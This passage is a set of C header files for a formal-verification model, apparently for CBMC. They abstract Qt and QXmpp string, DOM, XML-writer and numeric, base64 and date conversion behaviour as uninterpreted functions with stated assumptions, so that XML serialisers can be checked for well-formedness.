#ifndef QTMODEL_OPAQUE_H
#define QTMODEL_OPAQUE_H
#include "base.h"
typedef int qstr;
typedef int qdom;
qstr nondet_qstr(void);
static inline bool qstr_eq(qstr a, qstr b) { return a == b; }
static inline bool qstr_ne(qstr a, qstr b) { return a != b; }
static inline bool qstr_isEmpty(qstr a) { return a == 0; }
bool __CPROVER_uninterpreted_str_startsWith(qstr a, qstr b);
bool __CPROVER_uninterpreted_str_contains(qstr a, qstr b);
static inline bool qstr_startsWith(qstr a, qstr b) { if (a == b || b == 0) return true; if (a == 0) return false; return __CPROVER_uninterpreted_str_startsWith(a, b); }
static inline bool qstr_contains(qstr a, qstr b) { if (a == b || b == 0) return true; if (a == 0) return false; return __CPROVER_uninterpreted_str_contains(a, b); }

/* size()/length(): an uninterpreted function of the string; only  size("") == 0  and  size(non-empty) > 0  are known */
int __CPROVER_uninterpreted_str_size(qstr a);
static inline int qstr_size(qstr a) { if (a == 0) return 0; int n = __CPROVER_uninterpreted_str_size(a); __CPROVER_assume(n > 0 && n < (1 << 30)); return n; }
bool __CPROVER_uninterpreted_str_endsWith(qstr a, qstr b);
static inline bool qstr_endsWith(qstr a, qstr b) { if (a == b || b == 0) return true; if (a == 0) return false; return __CPROVER_uninterpreted_str_endsWith(a, b); }
/* JID helpers (QXmppUtils): uninterpreted, with only axioms that hold for the real functions on EVERY string:
   f("") = "";  bare(x) contains no '/', hence bare(bare(x)) = bare(x) and resource(bare(x)) = "".
   (NOT assumed: bare(x) != "" -- jidToBareJid("/r") is ""; nor resource(x) == "" <=> bare(x) == x -- "a@b/" has an empty resource.) */
qstr __CPROVER_uninterpreted_jid_bare(qstr j);
qstr __CPROVER_uninterpreted_jid_resource(qstr j);
qstr __CPROVER_uninterpreted_jid_domain(qstr j);
qstr __CPROVER_uninterpreted_jid_user(qstr j);
qstr __CPROVER_uninterpreted_str_lower(qstr j);
qstr __CPROVER_uninterpreted_str_trimmed(qstr j);
static inline qstr qstr_jidToBareJid(qstr j) { if (j == 0) return 0; qstr b = __CPROVER_uninterpreted_jid_bare(j);
  __CPROVER_assume(b == 0 || (__CPROVER_uninterpreted_jid_bare(b) == b && __CPROVER_uninterpreted_jid_resource(b) == 0)); return b; }
static inline qstr qstr_jidToResource(qstr j) { if (j == 0) return 0; return __CPROVER_uninterpreted_jid_resource(j); }
static inline qstr qstr_jidToDomain(qstr j) { if (j == 0) return 0; return __CPROVER_uninterpreted_jid_domain(j); }
static inline qstr qstr_jidToUser(qstr j) { if (j == 0) return 0; return __CPROVER_uninterpreted_jid_user(j); }
static inline qstr qstr_toLower(qstr j) { if (j == 0) return 0; qstr r = __CPROVER_uninterpreted_str_lower(j); __CPROVER_assume(r != 0 && __CPROVER_uninterpreted_str_lower(r) == r); return r; }
static inline qstr qstr_trimmed(qstr j) { if (j == 0) return 0; qstr r = __CPROVER_uninterpreted_str_trimmed(j); __CPROVER_assume(r == 0 || __CPROVER_uninterpreted_str_trimmed(r) == r); return r; }

/* QString::compare(other, cs): 0 exactly when the strings are equal (cs = Qt::CaseSensitive = 1) or equal after case folding
   (cs = Qt::CaseInsensitive = 0, folding = the uninterpreted toLower); otherwise some non-zero sign (the order itself is not modelled) */
int __CPROVER_uninterpreted_str_cmp_sign(qstr a, qstr b);
static inline int qstr_compare_cs(qstr a, qstr b, int cs)
{
  bool eq = cs != 0 ? (a == b) : (a == b || (a != 0 && b != 0 && __CPROVER_uninterpreted_str_lower(a) == __CPROVER_uninterpreted_str_lower(b)));
  if (eq) return 0;
  return __CPROVER_uninterpreted_str_cmp_sign(a, b) > 0 ? 1 : -1;
}

/* concatenation and regular expressions: uninterpreted; only  a + "" = a,  "" + b = b  and "non-empty parts give a non-empty whole" */
typedef int qrematch;   /* QRegularExpressionMatch: 0 = no match, otherwise an opaque match handle */
qstr __CPROVER_uninterpreted_str_concat(qstr a, qstr b);
qstr __CPROVER_uninterpreted_re_anchored(qstr p);
qstr __CPROVER_uninterpreted_re_escape(qstr p);
qrematch __CPROVER_uninterpreted_re_match(qstr pattern, qstr subject);
static inline qstr qstr_concat(qstr a, qstr b) { if (a == 0) return b; if (b == 0) return a; qstr r = __CPROVER_uninterpreted_str_concat(a, b); __CPROVER_assume(r != 0); return r; }
static inline qstr qstr_anchoredPattern(qstr p) { return __CPROVER_uninterpreted_re_anchored(p); }
static inline qstr qstr_regexEscape(qstr p) { return p == 0 ? 0 : __CPROVER_uninterpreted_re_escape(p); }
static inline qrematch qstr_regexMatch(qstr pattern, qstr subject) { return __CPROVER_uninterpreted_re_match(pattern, subject); }

qstr __CPROVER_uninterpreted_dom_tag(qdom e);
qstr __CPROVER_uninterpreted_dom_ns(qdom e);
qstr __CPROVER_uninterpreted_dom_attr(qdom e, qstr name);
qstr __CPROVER_uninterpreted_dom_text(qdom e);
qdom __CPROVER_uninterpreted_dom_first_child(qdom e, qstr tag, qstr ns);
qdom __CPROVER_uninterpreted_dom_next_sibling(qdom e, qstr tag, qstr ns);
static inline bool qdom_isNull(qdom e) { return e == 0; }
/* elementsByTagNameNS(ns, tag): the matching DESCENDANTS in document order, as an opaque list; at(i) is null (index out of
   range) or an element with that tag and namespace.  Nothing relates it to firstChildElement: a descendant need not be a child. */
typedef int qnodelist;
qnodelist __CPROVER_uninterpreted_dom_descendants(qdom e, qstr ns, qstr tag);
qdom __CPROVER_uninterpreted_nodelist_at(qnodelist l, int i);
static inline qnodelist qdom_elementsByTagNameNS(qdom e, qstr ns, qstr tag) { return __CPROVER_uninterpreted_dom_descendants(e, ns, tag); }
static inline qdom qnodelist_at(qnodelist l, int i) { return i < 0 ? 0 : __CPROVER_uninterpreted_nodelist_at(l, i); }   /* tag / namespace of the result: see qdom_elementsByTagNameNS_first */

static inline qstr qdom_tagName(qdom e) { return e == 0 ? 0 : __CPROVER_uninterpreted_dom_tag(e); }
static inline qstr qdom_namespaceURI(qdom e) { return e == 0 ? 0 : __CPROVER_uninterpreted_dom_ns(e); }
static inline qstr qdom_attribute(qdom e, qstr name) { return e == 0 ? 0 : __CPROVER_uninterpreted_dom_attr(e, name); }
/* an attribute may be PRESENT with an empty value (version=''): hasAttribute is its own function of (element, name); the only
   link to attribute() is that an absent attribute reads as the empty string */
bool __CPROVER_uninterpreted_dom_has_attr(qdom e, qstr name);
static inline bool qdom_hasAttribute(qdom e, qstr name) { if (e == 0) return false; bool h = __CPROVER_uninterpreted_dom_has_attr(e, name);
  __CPROVER_assume(h || __CPROVER_uninterpreted_dom_attr(e, name) == 0); return h; }
static inline qstr qdom_text(qdom e) { return e == 0 ? 0 : __CPROVER_uninterpreted_dom_text(e); }
/* QXmpp's helper firstChildElement(el, tag = {}, ns = {}) (QXmppUtils.cpp) under its assumed contract */
static inline qdom qdom_firstChildElement(qdom e, qstr tag, qstr ns) {
  if (e == 0) return 0;
  qdom c = __CPROVER_uninterpreted_dom_first_child(e, tag, ns);
  __CPROVER_assume(c != e && (c == 0 || ((tag == 0 || __CPROVER_uninterpreted_dom_tag(c) == tag) && (ns == 0 || __CPROVER_uninterpreted_dom_ns(c) == ns))));
  return c;
}
static inline qdom qdom_nextSiblingElement(qdom e, qstr tag, qstr ns) {
  if (e == 0) return 0;
  qdom c = __CPROVER_uninterpreted_dom_next_sibling(e, tag, ns);
  __CPROVER_assume(c != e && (c == 0 || ((tag == 0 || __CPROVER_uninterpreted_dom_tag(c) == tag) && (ns == 0 || __CPROVER_uninterpreted_dom_ns(c) == ns))));
  return c;
}
#endif
