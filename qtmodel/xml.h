/* qtmodel/xml.h -- abstract XML (DESIGN 5.4): ASSUMED contracts of QXmlStreamWriter and QDomElement
 *
 * A-XML-RT.  QXmlStreamWriter followed by QDomDocument::setContent(.., namespaceProcessing = true) is the identity on
 * (tag, namespace, attribute values, text, child elements in order) for non-blank strings of XML-legal characters: that is
 * where character escaping lives, and it is Qt's code.  The model makes the assumption structural: the writer calls BUILD
 * and the QDomElement calls READ the same ghost tree gh_x.
 *
 * Node ids (type qdom of opaque.h): 0 = null element; 1..XN = elements built by the writer in this run (read from the
 * ghost tree); every other id = a FOREIGN element (an arbitrary well-formed element somebody else produced): its
 * tag / namespace / attributes / text / children are the uninterpreted functions of opaque.h, i.e. completely arbitrary but
 * stable (the same query gives the same answer).
 *
 * What the writer model represents:  writeStartElement / writeEmptyElement / writeTextElement / writeDefaultNamespace /
 * writeAttribute / writeCharacters / writeEndElement with Qt's semantics, including: a child element without its own
 * xmlns declaration inherits the default namespace of its parent; attributes and the namespace written after
 * writeEmptyElement belong to that empty element; writeCharacters("") writes nothing.
 * What it does not represent is a MODEL_LIMIT (exit 2, never a verdict): more than XN elements, XA attributes, XC
 * children or XD open elements; mixed content (text next to child elements, or two text chunks in one element); text() of
 * an element that has child elements; prefixed namespaces.
 * What is an OBLIGATION on the calling code (QXmpp's share of "the output is well-formed XML"), recorded in gh_x.wf and
 * asserted by the units' postconditions: element and attribute names are non-empty, no attribute is written twice on one
 * element, every start has its end, attributes only go into an open start tag, exactly one root.
 *
 * Representation (chosen for the SAT back end, not for beauty): the elements whose end has not been written live on a
 * small stack of records (its depth is the same on all paths through balanced code, so it stays a constant during
 * symbolic execution); a finished element is committed once into per-field arrays indexed by its id. */
#ifndef QTMODEL_XML_H
#define QTMODEL_XML_H
#include "opaque.h"
#ifndef XN
#define XN 16
#endif
/* -DXWIDE: room for a stanza element (6 attributes, 18 child slots); the default sizes keep the nonza proofs small.
   In this mode child slots are SPARSE: a child sits in slot (its id - its parent's id - 1).  With the units' id reservation
   (xw_pad) ids are the same constants on all paths, hence so are the slots; document order is kept (ids grow in writing
   order), absent children are empty slots. */
#ifdef XWIDE
#define XA 6
#define XC 18
#define XWIDE_ONLY(x) x
#else
#define XA 4
#define XC 8
#define XWIDE_ONLY(x)
#endif
#define XD 6
typedef struct xopen { int id; qstr tag, ns, text; int nattr; qstr ak[XA], av[XA]; int nchild; int child[XC]; } xopen;
typedef struct xtree {
  /* committed elements, one array per field, index = element id */
  qstr tag[XN + 1], ns[XN + 1], text[XN + 1];
  int nattr[XN + 1]; qstr ak0[XN + 1], ak1[XN + 1], ak2[XN + 1], ak3[XN + 1], av0[XN + 1], av1[XN + 1], av2[XN + 1], av3[XN + 1];
  XWIDE_ONLY(qstr ak4[XN + 1]; qstr av4[XN + 1]; qstr ak5[XN + 1]; qstr av5[XN + 1]; int c8[XN + 1]; int c9[XN + 1]; int c10[XN + 1]; int c11[XN + 1]; int c12[XN + 1]; int c13[XN + 1]; int c14[XN + 1]; int c15[XN + 1]; int c16[XN + 1]; int c17[XN + 1];)
  int nchild[XN + 1]; int c0[XN + 1], c1[XN + 1], c2[XN + 1], c3[XN + 1], c4[XN + 1], c5[XN + 1], c6[XN + 1], c7[XN + 1];
  int parent[XN + 1];
  /* elements being written */
  xopen s[XD]; int depth;
  bool has_pending;  /* the last thing written was writeEmptyElement: Qt still adds attributes to THAT element */
  int pending_id;    /* its id (the element is already committed; later attributes are added to the committed record) */
  bool tag_open;     /* the start tag of the innermost open element still accepts attributes / namespace declarations */
  int used;          /* number of elements created so far (ids 1..used) */
  int base;          /* stack depth at which the serialiser under test started */
  int roots;         /* number of elements written at that depth */
  int root;          /* the first of them */
  bool wf;           /* well-formedness obligations on the caller hold so far */
} xtree;
xtree gh_x;
typedef struct xw { char unused; } xw;     /* QXmlStreamWriter: only its identity is used; the document is gh_x */

#define X_BUILT(e) ((e) >= 1 && (e) <= XN)

static inline void xw_reset(void) { gh_x.depth = 0; gh_x.has_pending = false; gh_x.pending_id = 0; gh_x.tag_open = false; gh_x.used = 0; gh_x.base = 0; gh_x.roots = 0; gh_x.root = 0; gh_x.wf = true; }

static inline void xw_commit(const xopen *o, int parent) {
  int id = o->id;
  gh_x.tag[id] = o->tag; gh_x.ns[id] = o->ns; gh_x.text[id] = o->text; gh_x.nattr[id] = o->nattr;
  gh_x.ak0[id] = o->ak[0]; gh_x.ak1[id] = o->ak[1]; gh_x.ak2[id] = o->ak[2]; gh_x.ak3[id] = o->ak[3];
  gh_x.av0[id] = o->av[0]; gh_x.av1[id] = o->av[1]; gh_x.av2[id] = o->av[2]; gh_x.av3[id] = o->av[3];
  gh_x.nchild[id] = o->nchild;
  gh_x.c0[id] = o->child[0]; gh_x.c1[id] = o->child[1]; gh_x.c2[id] = o->child[2]; gh_x.c3[id] = o->child[3];
  gh_x.c4[id] = o->child[4]; gh_x.c5[id] = o->child[5]; gh_x.c6[id] = o->child[6]; gh_x.c7[id] = o->child[7];
  XWIDE_ONLY(gh_x.ak4[id] = o->ak[4]; gh_x.av4[id] = o->av[4]; gh_x.ak5[id] = o->ak[5]; gh_x.av5[id] = o->av[5]; gh_x.c8[id] = o->child[8]; gh_x.c9[id] = o->child[9]; gh_x.c10[id] = o->child[10]; gh_x.c11[id] = o->child[11]; gh_x.c12[id] = o->child[12]; gh_x.c13[id] = o->child[13]; gh_x.c14[id] = o->child[14]; gh_x.c15[id] = o->child[15]; gh_x.c16[id] = o->child[16]; gh_x.c17[id] = o->child[17];)
  gh_x.parent[id] = parent;
}
static inline void xw_flush(void) { gh_x.has_pending = false; }
/* id reservation (ghost): the units pad both arms of a conditional to the same number of created elements, so that element
   ids are the same constants on all paths (pure identities: skipping ids does not change the tree) */
static inline void xw_pad(int n) { MODEL_LIMIT(gh_x.used <= XN - n, "abstract XML: more elements than the ghost tree holds"); gh_x.used += n; }
/* a new element named `name` under the innermost open element: fills *o, links it to its parent */
static inline void xw_new(xopen *o, qstr name) {
  MODEL_LIMIT(gh_x.used < XN, "abstract XML: more elements than the ghost tree holds");
  int id = gh_x.used + 1;
  gh_x.used = id;
  if (name == 0) gh_x.wf = false;                       /* an element without a name is not XML */
  o->id = id; o->tag = name; o->text = 0; o->nattr = 0; o->nchild = 0;
  o->ak[0] = 0; o->ak[1] = 0; o->ak[2] = 0; o->ak[3] = 0; o->av[0] = 0; o->av[1] = 0; o->av[2] = 0; o->av[3] = 0;
  XWIDE_ONLY(o->ak[4] = 0; o->av[4] = 0; o->ak[5] = 0; o->av[5] = 0; o->child[8] = 0; o->child[9] = 0; o->child[10] = 0; o->child[11] = 0; o->child[12] = 0; o->child[13] = 0; o->child[14] = 0; o->child[15] = 0; o->child[16] = 0; o->child[17] = 0;)
  o->child[0] = 0; o->child[1] = 0; o->child[2] = 0; o->child[3] = 0; o->child[4] = 0; o->child[5] = 0; o->child[6] = 0; o->child[7] = 0;
  if (gh_x.depth > 0) {
    xopen *par = &gh_x.s[gh_x.depth - 1];
    o->ns = par->ns;                                     /* inherits the default namespace */
    MODEL_LIMIT(par->text == 0, "abstract XML: mixed content (child element after text)");
#ifdef XWIDE
    int slot = id - par->id - 1;
    MODEL_LIMIT(slot >= 0 && slot < XC, "abstract XML: more child slots than the ghost tree holds");
    if (slot >= 0 && slot < XC) { par->child[slot] = id; if (par->nchild < slot + 1) par->nchild = slot + 1; }
#else
    MODEL_LIMIT(par->nchild < XC, "abstract XML: more child elements than the ghost tree holds");
    if (par->nchild < XC) { par->child[par->nchild] = id; par->nchild++; }
#endif
  } else o->ns = 0;
  if (gh_x.depth == gh_x.base) { if (gh_x.roots == 0) gh_x.root = id; if (gh_x.roots < 1000) gh_x.roots++; }
}
static inline void xw_writeStartElement(xw *w, qstr name) { (void)w;
  xw_flush();
  MODEL_LIMIT(gh_x.depth < XD, "abstract XML: deeper nesting than the ghost stack holds");
  if (gh_x.depth < XD) { xw_new(&gh_x.s[gh_x.depth], name); gh_x.depth++; }
  gh_x.tag_open = true; }
static inline void xw_writeEmptyElement(xw *w, qstr name) { (void)w;
  xopen o;
  xw_new(&o, name); xw_commit(&o, gh_x.depth > 0 ? gh_x.s[gh_x.depth - 1].id : 0); gh_x.has_pending = true; gh_x.pending_id = o.id; gh_x.tag_open = false; }
static inline void xw_writeEndElement(xw *w) { (void)w;
  xw_flush();
  if (gh_x.depth <= gh_x.base) { gh_x.wf = false; return; }                 /* end without start */
  gh_x.depth--;
  xw_commit(&gh_x.s[gh_x.depth], gh_x.depth > 0 ? gh_x.s[gh_x.depth - 1].id : 0);
  gh_x.tag_open = false; }
/* attributes and namespace declarations go to the innermost element while its start tag is open */
static inline void xw_attr_into(xopen *t, qstr k, qstr v) {
  if (k == 0) { gh_x.wf = false; return; }
  if ((t->nattr > 0 && t->ak[0] == k) || (t->nattr > 1 && t->ak[1] == k) || (t->nattr > 2 && t->ak[2] == k) || (t->nattr > 3 && t->ak[3] == k) XWIDE_ONLY(|| (t->nattr > 4 && t->ak[4] == k) || (t->nattr > 5 && t->ak[5] == k))) { gh_x.wf = false; return; }
  MODEL_LIMIT(t->nattr < XA, "abstract XML: more attributes than the ghost tree holds");
  if (t->nattr < XA) { t->ak[t->nattr] = k; t->av[t->nattr] = v; t->nattr++; } }
/* attribute added to the element created by the preceding writeEmptyElement (already committed under id) */
static inline void xw_attr_into_committed(int id, qstr k, qstr v) {
  if (k == 0 || !X_BUILT(id)) { gh_x.wf = false; return; }
  int n = gh_x.nattr[id];
  if ((n > 0 && gh_x.ak0[id] == k) || (n > 1 && gh_x.ak1[id] == k) || (n > 2 && gh_x.ak2[id] == k) || (n > 3 && gh_x.ak3[id] == k) XWIDE_ONLY(|| (n > 4 && gh_x.ak4[id] == k) || (n > 5 && gh_x.ak5[id] == k))) { gh_x.wf = false; return; }
  MODEL_LIMIT(n < XA, "abstract XML: more attributes than the ghost tree holds");
  if (n == 0) { gh_x.ak0[id] = k; gh_x.av0[id] = v; } else if (n == 1) { gh_x.ak1[id] = k; gh_x.av1[id] = v; } else if (n == 2) { gh_x.ak2[id] = k; gh_x.av2[id] = v; }
  else if (n == 3) { gh_x.ak3[id] = k; gh_x.av3[id] = v; } XWIDE_ONLY(else if (n == 4) { gh_x.ak4[id] = k; gh_x.av4[id] = v; } else if (n == 5) { gh_x.ak5[id] = k; gh_x.av5[id] = v; })
  if (n < XA) gh_x.nattr[id] = n + 1; }
static inline void xw_writeDefaultNamespace(xw *w, qstr ns) { (void)w;
  if (gh_x.has_pending) { if (X_BUILT(gh_x.pending_id)) gh_x.ns[gh_x.pending_id] = ns; else gh_x.wf = false; return; }
  if (gh_x.depth > gh_x.base && gh_x.tag_open) gh_x.s[gh_x.depth - 1].ns = ns;
  else gh_x.wf = false; }
static inline void xw_writeAttribute(xw *w, qstr k, qstr v) { (void)w;
  if (gh_x.has_pending) { xw_attr_into_committed(gh_x.pending_id, k, v); return; }
  if (gh_x.depth > gh_x.base && gh_x.tag_open) xw_attr_into(&gh_x.s[gh_x.depth - 1], k, v);
  else gh_x.wf = false; }
static inline void xw_writeCharacters(xw *w, qstr t) { (void)w;
  xw_flush(); gh_x.tag_open = false;
  if (t == 0) return;
  if (gh_x.depth <= gh_x.base) { gh_x.wf = false; return; }
  xopen *o = &gh_x.s[gh_x.depth - 1];
  MODEL_LIMIT(o->nchild == 0 && o->text == 0, "abstract XML: mixed content or a second text chunk");
  o->text = t; }
static inline void xw_writeTextElement(xw *w, qstr name, qstr t) { xw_writeStartElement(w, name); xw_writeCharacters(w, t); xw_writeEndElement(w); }
/* the serialiser left the document as it found it (same open element), having appended exactly one well-formed element */
#define XW_ONE_COMPLETE_ELEMENT() (gh_x.wf && gh_x.depth == gh_x.base && gh_x.roots == 1)
/* the serialiser under test starts inside the currently open element (its output is counted from here) */
static inline void xw_set_base(void) { gh_x.base = gh_x.depth; gh_x.roots = 0; gh_x.root = 0; }
/* end of the serialiser under test: a trailing empty element is complete now */
static inline void xw_finish(void) { xw_flush(); gh_x.tag_open = false; }

/* ---- reading: QDomElement over built and foreign elements */
bool __CPROVER_uninterpreted_dom_has_attr(qdom e, qstr name);
static inline qstr xdom_tagName(qdom e) { return X_BUILT(e) ? gh_x.tag[e] : qdom_tagName(e); }
static inline qstr xdom_namespaceURI(qdom e) { return X_BUILT(e) ? gh_x.ns[e] : qdom_namespaceURI(e); }
static inline qstr xdom_text(qdom e) {
  if (!X_BUILT(e)) return qdom_text(e);
  MODEL_LIMIT(gh_x.nchild[e] == 0, "abstract XML: text() of an element with child elements");
  return gh_x.text[e]; }
static inline qstr xdom_attribute(qdom e, qstr name) {
  if (!X_BUILT(e)) return qdom_attribute(e, name);
  int n = gh_x.nattr[e];
  if (n > 0 && gh_x.ak0[e] == name) return gh_x.av0[e];
  if (n > 1 && gh_x.ak1[e] == name) return gh_x.av1[e];
  if (n > 2 && gh_x.ak2[e] == name) return gh_x.av2[e];
  if (n > 3 && gh_x.ak3[e] == name) return gh_x.av3[e];
  XWIDE_ONLY(if (n > 4 && gh_x.ak4[e] == name) return gh_x.av4[e]; if (n > 5 && gh_x.ak5[e] == name) return gh_x.av5[e];)
  return 0; }
static inline bool xdom_hasAttribute(qdom e, qstr name) {
  if (!X_BUILT(e)) { if (e == 0) return false; if (__CPROVER_uninterpreted_dom_attr(e, name) != 0) return true; return __CPROVER_uninterpreted_dom_has_attr(e, name); }
  int n = gh_x.nattr[e];
  return (n > 0 && gh_x.ak0[e] == name) || (n > 1 && gh_x.ak1[e] == name) || (n > 2 && gh_x.ak2[e] == name) || (n > 3 && gh_x.ak3[e] == name) XWIDE_ONLY(|| (n > 4 && gh_x.ak4[e] == name) || (n > 5 && gh_x.ak5[e] == name)); }
static inline bool xdom_match(int c, qstr tag, qstr ns) { return X_BUILT(c) && (tag == 0 || gh_x.tag[c] == tag) && (ns == 0 || gh_x.ns[c] == ns); }
/* first child element at position >= from that matches the (possibly empty) filters */
static inline qdom xdom_child_from(qdom e, int from, qstr tag, qstr ns) {
  int n = gh_x.nchild[e];
#define XSTEP(i, arr) if (from <= i && i < n && xdom_match(gh_x.arr[e], tag, ns)) return gh_x.arr[e];
  XSTEP(0, c0) XSTEP(1, c1) XSTEP(2, c2) XSTEP(3, c3) XSTEP(4, c4) XSTEP(5, c5) XSTEP(6, c6) XSTEP(7, c7)
  XWIDE_ONLY(XSTEP(8, c8) XSTEP(9, c9) XSTEP(10, c10) XSTEP(11, c11) XSTEP(12, c12) XSTEP(13, c13) XSTEP(14, c14) XSTEP(15, c15) XSTEP(16, c16) XSTEP(17, c17))
#undef XSTEP
  return 0; }
static inline int xdom_index_in_parent(qdom e) {
  int p = gh_x.parent[e];
  if (!X_BUILT(p)) return XC;
#ifdef XWIDE
  return e - p - 1;
#else
  int n = gh_x.nchild[p];
#define XSTEP(i, arr) if (i < n && gh_x.arr[p] == e) return i;
  XSTEP(0, c0) XSTEP(1, c1) XSTEP(2, c2) XSTEP(3, c3) XSTEP(4, c4) XSTEP(5, c5) XSTEP(6, c6) XSTEP(7, c7)
#undef XSTEP
  return XC;
#endif
}
/* foreign elements: children of a foreign element are foreign */
static inline qdom xdom_firstChildElement(qdom e, qstr tag, qstr ns) {
  if (X_BUILT(e)) return xdom_child_from(e, 0, tag, ns);
  qdom c = qdom_firstChildElement(e, tag, ns);
  __CPROVER_assume(!X_BUILT(c));
  return c; }
static inline qdom xdom_nextSiblingElement(qdom e, qstr tag, qstr ns) {
  if (X_BUILT(e)) { int p = gh_x.parent[e]; if (!X_BUILT(p)) return 0; return xdom_child_from(p, xdom_index_in_parent(e) + 1, tag, ns); }
  qdom c = qdom_nextSiblingElement(e, tag, ns);
  __CPROVER_assume(!X_BUILT(c));
  return c; }
#endif
