/* qtmodel/conv.h -- Qt's text <-> value conversions as mutually inverse uninterpreted functions : ASSUMED contracts
 *
 * A-QT-NUM.  A string denotes at most one integer.  str_is_u64(s) / str_u64(s): s is a decimal numeral accepted by
 * QString::toULongLong and its value;  str_is_s64 / str_s64 likewise for toLongLong.  The two agree on the common range
 * (0 .. 2^63-1).  QString::number(v) is a non-empty numeral denoting v.  The narrower conversions are Qt's own code
 * (QString::toIntegral_helper): convert through the 64-bit function, then fail (ok = false, result 0) when the value does
 * not survive the cast to the narrower type.  The empty string is no numeral.  Nothing else is known: a literal such as
 * "1" may or may not be a numeral as far as the model is concerned (sound: both cases are explored).
 * A-QT-B64.  QByteArray::fromBase64Encoding(QString::fromUtf8(b.toBase64()).toUtf8()) decodes to b; base64 of the empty
 * array is the empty string and vice versa; the empty string decodes (successfully) to the empty array.
 * A-QT-DATE.  A qdt value stands for an instant (QDateTime::operator== compares instants, toUTC() keeps the instant); 0 is
 * the invalid QDateTime.  QDateTime::fromString(dt.toString(Qt::ISODateWithMs), Qt::ISODate) is dt for a UTC dt;
 * with Qt::ISODate as output format the same holds only when dt has no milliseconds part.
 * A-QT-UUID.  QUuid::fromString(u.toString(WithoutBraces)) == u; the null uuid is id 0. */
#ifndef QTMODEL_CONV_H
#define QTMODEL_CONV_H
#include "opaque.h"
typedef int qbytes;    /* QByteArray as an opaque value: 0 = empty */
typedef int qdt;       /* QDateTime as an instant: 0 = invalid */
typedef int quuid;     /* QUuid: 0 = null */

bool __CPROVER_uninterpreted_str_is_u64(qstr s);
unsigned long long __CPROVER_uninterpreted_str_u64(qstr s);
bool __CPROVER_uninterpreted_str_is_s64(qstr s);
long long __CPROVER_uninterpreted_str_s64(qstr s);
qstr __CPROVER_uninterpreted_num_ustr(unsigned long long v);
qstr __CPROVER_uninterpreted_num_sstr(long long v);

/* the spec's own reading of a string as an integer (used by contracts) */
#define STR_IS_U64(s) ((s) != 0 && __CPROVER_uninterpreted_str_is_u64(s))
#define STR_U64(s) __CPROVER_uninterpreted_str_u64(s)
#define STR_IS_S64(s) ((s) != 0 && __CPROVER_uninterpreted_str_is_s64(s))
#define STR_S64(s) __CPROVER_uninterpreted_str_s64(s)

static inline void conv_numeral_axioms(qstr s) {
  /* the two readings of one string agree */
  __CPROVER_assume(!(STR_IS_U64(s) && STR_U64(s) <= 0x7fffffffffffffffull) || (STR_IS_S64(s) && STR_S64(s) == (long long)STR_U64(s)));
  __CPROVER_assume(!(STR_IS_S64(s) && STR_S64(s) >= 0) || (STR_IS_U64(s) && STR_U64(s) == (unsigned long long)STR_S64(s)));
  __CPROVER_assume(!(STR_IS_U64(s) && STR_U64(s) > 0x7fffffffffffffffull) || !STR_IS_S64(s));
  __CPROVER_assume(!(STR_IS_S64(s) && STR_S64(s) < 0) || !STR_IS_U64(s));
}
static inline unsigned long long qstr_toULongLong(qstr s, bool *ok) { conv_numeral_axioms(s); if (STR_IS_U64(s)) { if (ok) *ok = true; return STR_U64(s); } if (ok) *ok = false; return 0; }
static inline long long qstr_toLongLong(qstr s, bool *ok) { conv_numeral_axioms(s); if (STR_IS_S64(s)) { if (ok) *ok = true; return STR_S64(s); } if (ok) *ok = false; return 0; }
/* QString::toIntegral_helper<T>: 64-bit conversion, then "if (T(val) != val) { ok = false; val = 0; }" */
static inline unsigned int qstr_toUInt(qstr s, bool *ok) { bool k; unsigned long long v = qstr_toULongLong(s, &k); if (k && (unsigned long long)(unsigned int)v != v) { k = false; v = 0; } if (ok) *ok = k; return (unsigned int)v; }
static inline unsigned short qstr_toUShort(qstr s, bool *ok) { bool k; unsigned long long v = qstr_toULongLong(s, &k); if (k && (unsigned long long)(unsigned short)v != v) { k = false; v = 0; } if (ok) *ok = k; return (unsigned short)v; }
static inline int qstr_toInt(qstr s, bool *ok) { bool k; long long v = qstr_toLongLong(s, &k); if (k && (v < -2147483647ll - 1 || v > 2147483647ll)) { k = false; v = 0; } if (ok) *ok = k; return (int)v; }
static inline short qstr_toShort(qstr s, bool *ok) { bool k; long long v = qstr_toLongLong(s, &k); if (k && (v < -32768 || v > 32767)) { k = false; v = 0; } if (ok) *ok = k; return (short)v; }
static inline qstr QString_number_u64(unsigned long long v) {
  qstr r = __CPROVER_uninterpreted_num_ustr(v);
  __CPROVER_assume(r != 0 && __CPROVER_uninterpreted_str_is_u64(r) && __CPROVER_uninterpreted_str_u64(r) == v);
  return r; }
static inline qstr QString_number_s64(long long v) {
  if (v >= 0) return QString_number_u64((unsigned long long)v);
  qstr r = __CPROVER_uninterpreted_num_sstr(v);
  __CPROVER_assume(r != 0 && __CPROVER_uninterpreted_str_is_s64(r) && __CPROVER_uninterpreted_str_s64(r) == v);
  return r; }

/* ---- base64 / UTF-8 */
qbytes __CPROVER_uninterpreted_b64_enc(qbytes b);       /* QByteArray::toBase64 */
qbytes __CPROVER_uninterpreted_b64_dec(qbytes b);       /* QByteArray::fromBase64Encoding: decoded */
bool __CPROVER_uninterpreted_b64_ok(qbytes b);          /*                               : decodingStatus == Ok */
qstr __CPROVER_uninterpreted_utf8_dec(qbytes b);        /* QString::fromUtf8 */
qbytes __CPROVER_uninterpreted_utf8_enc(qstr s);        /* QString::toUtf8 */
typedef struct FromBase64Result { bool ok; qbytes decoded; } FromBase64Result;
static inline qbytes qbytes_toBase64(qbytes b) { if (b == 0) return 0; qbytes r = __CPROVER_uninterpreted_b64_enc(b);
  __CPROVER_assume(r != 0 && __CPROVER_uninterpreted_b64_ok(r) && __CPROVER_uninterpreted_b64_dec(r) == b
                   && __CPROVER_uninterpreted_utf8_dec(r) != 0 && __CPROVER_uninterpreted_utf8_enc(__CPROVER_uninterpreted_utf8_dec(r)) == r);   /* base64 text is ASCII */
  return r; }
static inline qstr QString_fromUtf8(qbytes b) { if (b == 0) return 0; return __CPROVER_uninterpreted_utf8_dec(b); }
static inline qbytes qstr_toUtf8(qstr s) { if (s == 0) return 0; qbytes r = __CPROVER_uninterpreted_utf8_enc(s); __CPROVER_assume(r != 0); return r; }
static inline void qbytes_fromBase64Encoding(FromBase64Result *_ret, qbytes b) {
  if (b == 0) { _ret->ok = true; _ret->decoded = 0; return; }
  _ret->ok = __CPROVER_uninterpreted_b64_ok(b); _ret->decoded = __CPROVER_uninterpreted_b64_dec(b); }

/* QString::toLatin1, QByteArray::fromBase64 (lenient decoder), toHex / fromHex -- A-QT-B64 / A-QT-HEX: base64 and hex text is ASCII,
